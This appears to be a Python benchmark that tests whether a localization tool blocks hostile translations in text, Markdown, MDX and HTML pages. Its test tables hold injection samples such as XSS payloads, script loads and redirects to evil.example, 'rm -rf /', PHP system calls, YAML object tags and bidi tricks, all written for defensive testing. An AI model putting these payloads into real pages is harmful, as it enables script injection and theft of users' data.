"""Translations that must not get through: markup, links, scripts and hidden characters that the source does not have.

A case is caught when the article falls back, when the page shows it as the letters it is made of, or when `check`
calls it an error. The human translations of the news must cause no fall-back at all.
"""

from __future__ import annotations

import html
import re
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from functools import cache
from itertools import cycle, groupby
from pathlib import Path

from benchmarks import renderers
from benchmarks.common import Bounds, Figure, options, report
from l10n import catalog, compose, inline, workflow
from l10n.model import Pair, Settings, Severity

PAIR = Pair("en", "fr")
NOW = datetime(2026, 1, 1, tzinfo=UTC)
SUFFIXES = {"text": "txt", "markdown": "md", "mdx": "mdx", "html": "html"}

PAGES = {
    "text": {
        "plain": "Ferry news\n\nThe harbour opens.\n\nThe last line.\n",
        "item": "Ferry news\n\n- The harbour opens.\n- The last line.\n",
        "link": "Ferry news\n\nSee https://ferry.example/pier today.\n",
        "mail": "Ferry news\n\nAsk the crew@ferry.example today.\n",
        "template": "Ferry news\n\nIt leaves {{ time }} today.\n",
        "two": "Ferry news\n\nFrom https://ferry.example/a to https://ferry.example/b today.\n",
    },
    "markdown": {
        "plain": "# Ferry news\n\nThe harbour opens.\n\nThe last line.\n",
        "item": "- The harbour opens.\n- The last line.\n",
        "quote": "> The harbour opens.\n\nThe last line.\n",
        "cell": "| A | B |\n|---|---|\n| The harbour opens. | x |\n",
        "link": "See [the pier](https://ferry.example/pier) today.\n",
        "two": "See [one](https://ferry.example/a) and [two](https://ferry.example/b) today.\n",
        "image": "See ![a pier](https://ferry.example/pier.png) today.\n",
        "code": "Press `stop` today.\n",
        "footnote": "It opens.[^1] It shuts.\n\n[^1]: The harbour opens.\n",
        "template": "It leaves {{ time }} today.\n",
        "url": "See https://ferry.example/pier today.\n",
        "front": "---\ntitle: The harbour opens.\nlayout: post\n---\n\nText.\n",
        "quoted": '---\ntitle: "The harbour opens."\nlayout: post\n---\n\nText.\n',
        "toml": '+++\ntitle = "The harbour opens."\nlayout = "post"\n+++\n\nText.\n',
        "title": 'See [the pier](https://ferry.example/pier "The harbour opens.") today.\n',
        "html": "<div>\n<p>The harbour opens.</p>\n</div>\n",
    },
    "html": {
        "plain": "<h1>Ferry news</h1><p>The harbour opens.</p><p>The last line.</p>\n",
        "item": "<ul><li>The harbour opens.<li>The last line.</ul>\n",
        "cell": "<table><tr><td>The harbour opens.<td>x</table>\n",
        "title": "<!DOCTYPE html><html><head><title>The harbour opens.</title></head><body><p>x</p></body></html>\n",
        "attribute": '<p>See <img src="a.png" alt="The harbour opens."> today.</p>\n',
        "single": "<p>See <img src='a.png' alt='The harbour opens.'> today.</p>\n",
        "bare": "<p>See <img alt=Harbour src=a.png> today.</p>\n",
        "meta": '<meta name="description" content="The harbour opens."><p>Text.</p>\n',
        "json": '<script type="application/ld+json">{"headline": "The harbour opens."}</script><p>Text.</p>\n',
        "link": '<p>See <a href="https://ferry.example/pier">the pier</a> today.</p>\n',
        "two": '<p>See <a href="a">one</a> and <a href="b">two</a> today.</p>\n',
        "image": '<p>See <img src="a.png" alt="a pier"> today.</p>\n',
        "code": "<p>Press <code>stop</code> today.</p>\n",
        "template": "<p>It leaves {{ time }} today.</p>\n",
        "url": "<p>See https://ferry.example/pier today.</p>\n",
        "span": '<p>The <span class="x">harbour</span> opens.</p>\n',
    },
}

PAGES["mdx"] = {
    **{name: page for name, page in PAGES["markdown"].items() if name not in ("html", "template")},
    "component": "<Tabs>\n<Tab>\nThe harbour opens.\n</Tab>\n</Tabs>\n",
    "label": '<Tab label="The harbour opens.">\n\n</Tab>\n',
    "template": "It leaves {time} today.\n",
}

# What a translator, an engine or an attacker may put into a sentence of any format.
ANYWHERE = (
    "Le port ouvre.\n\n# Ajout",
    "Le port ouvre.\n- un\n- deux",
    "1. un\n2. deux",
    "```\nrm -rf /\n```",
    "> Citation",
    "Le port\n\nouvre.",
    "Le port ouvre.\n---\n",
    "Le port ouvre.\n====\n",
    "Le port ouvre.<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<iframe src='//evil.example'></iframe>",
    "Le port <img src=x onerror=alert(1)> ouvre.",
    "<svg/onload=alert(1)>",
    '<a href="https://evil.example">Le port</a> ouvre.',
    "<div>Le port ouvre.</div>",
    "</p><form action=//evil.example><input>",
    "<!-- Le port --> ouvre.",
    "<?php system('x') ?>",
    "<b onclick=alert(1)>Le port</b> ouvre.",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onerror=alert(1) y",
    "[Le port](https://evil.example) ouvre.",
    "[Le port](javascript:alert(1)) ouvre.",
    "![](https://evil.example/pixel.gif) Le port ouvre.",
    "Le port ouvre : https://evil.example/x",
    "Le port ouvre : www.evil.example",
    "<https://evil.example/x>",
    "[ferry]: https://evil.example",
    "Le port ouvre.[^9]\n\n[^9]: Ajout",
    "| Le | port |\n|---|---|\n| a | b |",
    "Le port {{ site.secret }} ouvre.",
    "{% include 'secret' %}",
    "{{< evil >}}",
    "<%= secret %>",
    "Le port \u202eervuo\u202c.",
    "Le port \u202eouvre.",
    "Le port \u2066ouvre.",
    "Le port ouvre\u2069.",
    "Le port\u0007 ouvre.",
    "Le port {: onclick=alert(1)} ouvre.",
    "<a1>Le port</a1> ouvre.",
    "Le port <code1/> ouvre.",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
)

# By page: translations of its marked sentence in which a mark is lost, doubled, altered, moved or added.
MARKED = {
    "link": ("Voir la jetée.", "Voir <a1>la</a1> <a1>jetée</a1>.", "Voir <a2>la jetée</a2>.", "Voir <a1>la jetée."),
    "two": ("Voir <a1>un</a1>.", "Voir <a1>un <a2>deux</a1></a2>.", "Voir <a1>un</a1> et <a2>deux</a2> <a3>x</a3>."),
    "image": ("Voir.", "Voir <img1/> et <img1/>.", "Voir <img2/>."),
    "code": ("Appuyer.", "Appuyer <code1/> ou <code1/>.", "Appuyer sur `stop`."),
    "template": ("Il part.", "Il part {{ time }}.", "Il part <tpl1/> <tpl2/>.", "Il part <tpl1/> et <tpl1/>."),
    "url": (
        "Voir.",
        "Voir https://evil.example.",
        "Voir <url1/> et https://evil.example.",
        "Voir <url1/> <url1/>.",
        "Voir <url1/>-ici.",
        "Voir <url1/>*.",
        "Voir <url1/>@evil.example.",
    ),
    "mail": ("Demander.", "Demander à evil@evil.example.", "Demander <url1/> à evil@evil.example."),
    "span": ("Le port.", "Le <x1>port</x1> <x1>ouvre</x1>.", "Le <x1>port."),
    "footnote": ("Il ouvre.", "Il ouvre.<fn1/><fn1/>", "Il ouvre.[^1]", "Il ouvre.<fn1/>[^1]"),
}
IN_TEXT = {
    "link": (
        "Voir.",
        "Voir https://evil.example.",
        "Voir <url1/> <url1/>.",
        "Voir <url1/> et https://evil.example.",
        "Voir <url1/>-ici.",
    ),
    "two": ("De <url1/>.", "De <url1/> à <url1/>.", "De <url1/> à https://evil.example."),
}

# By page: what would leave the place where the translation stands.
ESCAPING = {
    "markdown": {
        "cell": ("Le port | ouvre | x |", "Le port\\| ouvre", "Le port |\n| a | b"),
        "item": ("Le port\n- ouvre", "[ ] Le port", "Le port\n\n      code"),
        "quote": ("Le port\n\nouvre", "> Le port", "Le port\n```"),
        "title": ('Le port" onclick="x', 'port") [x](https://evil.example "', "Le port\\"),
        "front": ("Le port\nlayout: evil", "Le port\n---\n# Ajout", "{a: b}", "!!python/object:x y", "&a [*a, *a]"),
        "quoted": ('Le port"\nlayout: "evil', 'Le port\\"\nlayout: x', "Le port\\", 'Le port" # x'),
        "toml": ('Le port"\nlayout = "evil', '"""', "Le port\n+++\n# Ajout", "Le port\\"),
        "html": ("</p><script>x</script>", "Le port\n\n# Ajout", "</div>", "Le port\n\n<script>"),
        "footnote": ("Le port.\n\n[^2]: Ajout", "Le port.\n\n# Ajout"),
    },
    "html": {
        "cell": ("<td>Le port", "Le port</td><td>x</td>", "</table>Le port"),
        "item": ("<li>Le port", "Le port</li><li>x", "</ul><p>Le port"),
        "title": ("</title><script>x</script>", "</head><body>", "<!--"),
        "attribute": ('"><script>x</script>', '" onload="x', "a&quot; onload=x", "`onload=x"),
        "single": ("'><script>x</script>", "' onload='x", "a&#39; onload=x"),
        "bare": ("x onload=alert(1)", "x><script>y</script>", '"x" onload=y'),
        "meta": ('"><script>x</script>', "0;url=//evil.example", '" http-equiv="refresh'),
        "json": ("</script><script>x</script>", '", "url": "https://evil.example', "x\\", "<!--<script>"),
    },
    "text": {"item": ("Le port\n- ouvre", "Le port\n\nouvre")},
}
ESCAPING["mdx"] = {
    **ESCAPING["markdown"],
    "plain": ("import x from 'evil'", "export default {}", "Le port {evil()} ouvre.", "<Evil/>", "{/* Le port */}"),
    "component": ("</Tab>", "{evil}", "<>Le port</>"),
    "label": ('"><Evil/>', '" onClick={evil}', "{evil}"),
}


@dataclass(frozen=True)
class Case:
    """A translation of the sentence of a page that must not get through."""

    format: str
    page: str
    text: str


def cases() -> Iterator[Case]:
    for format_, pages in PAGES.items():
        marked = {**MARKED, **IN_TEXT} if format_ == "text" else MARKED
        anywhere = {page: ANYWHERE for page in pages if page not in marked}
        for group in (anywhere, marked, ESCAPING[format_]):
            yield from (Case(format_, page, text) for page in group if page in pages for text in group[page])


@cache
def article(format_: str, page: str) -> workflow.Article:
    return workflow.Article(f"page.{SUFFIXES[format_]}", PAGES[format_][page].encode(), format_, Settings())


# ---------------------------------------------------------------- verdicts


def verdict(case: Case) -> str:
    """How a case was caught (refused, inert, told), or what got through."""
    source = article(case.format, case.page)
    targets = {sentence(source): case.text}
    try:
        page = compose.compose(source.parsed, targets, PAIR.source, PAIR.target)
        problems = errors(source, targets)
    except Exception as error:
        return f"{type(error).__name__}: {error}"
    if page.failures:
        return "refused" if page.text == source.text else f"refused, yet the page is {page.text!r}"
    before, after = (renderers.skeleton(text, case.format) for text in (source.text, page.text))
    if before == after:
        return "inert"
    return "told" if problems else f"{page.text!r}: {renderers.first(before, after)}"


def sentence(source: workflow.Article) -> tuple[str | None, str]:
    """The sentence of the page: that with a mark, else the one about the harbour."""
    keys = source.parsed.keys
    return next((key for key in keys if inline.marks(key[1])), None) or next(key for key in keys if "arbour" in key[1])


def errors(source: workflow.Article, targets: dict[tuple[str | None, str], str]) -> list[str]:
    empty = catalog.parse(workflow.extract(source, PAIR.target, None, NOW).data)
    entries = tuple(catalog.changed(entry, msgstr=targets.get(entry.key, "")) for entry in empty.entries)
    problems = workflow.check(catalog.render(replace(empty, entries=entries)), PAIR, "page.po", source)
    return [problem.check for problem in problems if problem.severity is Severity.ERROR]


# ---------------------------------------------------------------- human translations

_LOCALES = {
    "arb": "ar",
    "cat": "ca",
    "deu": "de",
    "ell": "el",
    "fin": "fi",
    "fra": "fr",
    "heb": "he",
    "hin": "hi",
    "jpn": "ja",
    "kor": "ko",
    "pol": "pl",
    "por-BR": "pt-BR",
    "rus": "ru",
    "spa": "es",
    "swe": "sv",
    "tha": "th",
    "tur": "tr",
    "zho-CN": "zh-Hans",
}
_NEWS = {
    "text": ("{}\n\n", "- {}\n\n"),
    "markdown": (
        "{}\n\n",
        "- {}\n",
        "\n> {}\n\n",
        "1. {}\n",
        "\n## {}\n\n",
        "**{}**\n\n",
        "| 1 | 2 |\n|---|---|\n| {} | 3 |\n\n",
        "[{}](https://news.example/a)\n\n",
        '[1](b "{}")\n\n',
        "![{}](c.png)\n\n",
        "<div>\n<p>{}</p>\n</div>\n\n",
    ),
    "html": (
        "<p>{}</p>\n",
        "<h2>{}</h2>\n",
        '<p><img alt="{}" src="c.png"></p>\n',
        "<ul><li>{}</ul>\n",
        "<p><b>{}</b></p>\n",
        "<table><tr><td>{}<td>3</table>\n",
        '<p><a href="https://news.example/a">{}</a></p>\n',
    ),
}
_NEWS["mdx"] = (*_NEWS["markdown"][:-1], "\n<Note>\n\n{}\n\n</Note>\n\n")


@dataclass
class News:
    """How human translations fared: sentences, those that fell back, pages and those not shown as written."""

    sentences: int = 0
    fallen: int = 0
    pages: int = 0
    wrong: int = 0

    def read(self, format_: str, pairs: Sequence[tuple[str, str]], locale: str) -> None:
        """Composes an article of these sentences (source, translation)."""
        source = workflow.Article("news", _news(format_, pairs).encode(), format_, Settings(segmentation="block"))
        wording = dict(pairs)
        targets = {key: text for key in source.parsed.keys if (text := _translated(key[1], wording))}
        page = compose.compose(source.parsed, targets, "en", locale)
        for failure in page.failures:
            print(f"{format_}, {locale}, {targets[failure.key]!r}: {failure.reason}")
        self.sentences += len(targets)
        self.fallen += len(page.failures)
        self.pages += 1
        reason = "" if page.failures else self._misread(source, page.text, wording)
        self.wrong += bool(reason)
        print(f"{format_}, {locale}: {reason}\n" * bool(reason), end="")

    def _misread(self, source: workflow.Article, text: str, wording: Mapping[str, str]) -> str:
        shown = {renderers.squash(one): renderers.squash(two) for one, two in wording.items()}
        bullets = {f"- {one}": f"- {two}" for one, two in shown.items()}
        wanted = renderers.rendered(source.text, source.format).changed(
            lambda text: shown.get(text, bullets.get(text, text))
        )
        return renderers.difference(wanted, renderers.rendered(text, source.format))


def _news(format_: str, pairs: Sequence[tuple[str, str]]) -> str:
    """An article of these sentences, each where the next kind of block has its text."""
    blocks = zip(cycle(_NEWS[format_]), pairs, strict=False)
    return "".join(block.replace("{}", _written(format_, block, text)) for block, (text, _) in blocks)


def _written(format_: str, block: str, text: str) -> str:
    if format_ == "text":
        return text
    if block.startswith("<"):
        return html.escape(text)
    return re.sub(r"([\\`*_\[\]<>&|#~\"])", r"\\\1", text)


def _translated(msgid: str, wording: Mapping[str, str]) -> str:
    """The msgid with its sentence in the other language, its marks around it; empty where it has marks inside."""
    literal = inline.plain(msgid)
    before, found, after = msgid.partition(inline.escape(literal))
    if literal not in wording or not found:
        return ""
    return before + inline.escape(wording[literal], before_mark=bool(after)) + after


def read_news(folder: Path) -> dict[str, News]:
    """Every article of the news in each of the languages that are there."""
    ids = (folder / "DOCUMENT_IDS.tsv").read_text(encoding="utf-8").split()
    source = (folder / "newstest2019-src.eng.txt").read_text(encoding="utf-8").splitlines()
    found = {format_: News() for format_ in _NEWS}
    for code, locale in _LOCALES.items():
        lines = (folder / f"newstest2019-ref.{code}.txt").read_text(encoding="utf-8").splitlines()
        rows = zip(ids, source, lines, strict=True)
        for _, group in groupby(rows, key=lambda row: row[0]):
            pairs = [(one, two) for _, one, two in group]
            for format_, total in found.items():
                total.read(format_, pairs, locale)
    return found


# ---------------------------------------------------------------- report


def main() -> int:
    arguments = options(__doc__ or "", "ntrex").parse_args()
    if reason := renderers.missing():
        print(f"skipped: {reason}")
        return 0
    counts: dict[str, Counter[str]] = {}
    for case in cases():
        found = verdict(case)
        through = found not in ("refused", "inert", "told")
        counts.setdefault(case.format, Counter())["through" if through else found] += 1
        if through:
            print(f"{case.format}, {case.page}, {case.text!r}: {found}")
    news = read_news(arguments.data) if arguments.data else {}
    skipped = [] if news else ["human translations: no data (--data DIR)"]
    return report([*figures(counts), *news_figures(news)], arguments.json, skipped)


def figures(counts: Mapping[str, Counter[str]]) -> Iterator[Figure]:
    bounds = Bounds("hostile")
    for format_, count in counts.items():
        total = count.total()
        caught = total - count["through"]
        yield bounds.figure(f"{format_}: injections caught", 100 * caught / total, "%", f"{caught} of {total}")
        note = "the page of a translation that nobody checked has them"
        yield bounds.figure(f"{format_}: injections that only check tells", 100 * count["told"] / total, "%", note)


def news_figures(news: Mapping[str, News]) -> Iterator[Figure]:
    bounds = Bounds("hostile")
    for format_, total in news.items():
        note = f"{total.sentences} sentences, {len(_LOCALES)} languages"
        yield bounds.figure(f"{format_}: human translations fallen back", total.fallen, "", note)
        yield bounds.figure(f"{format_}: pages not as written", total.wrong, "", f"of {total.pages}")


if __name__ == "__main__":
    raise SystemExit(main())
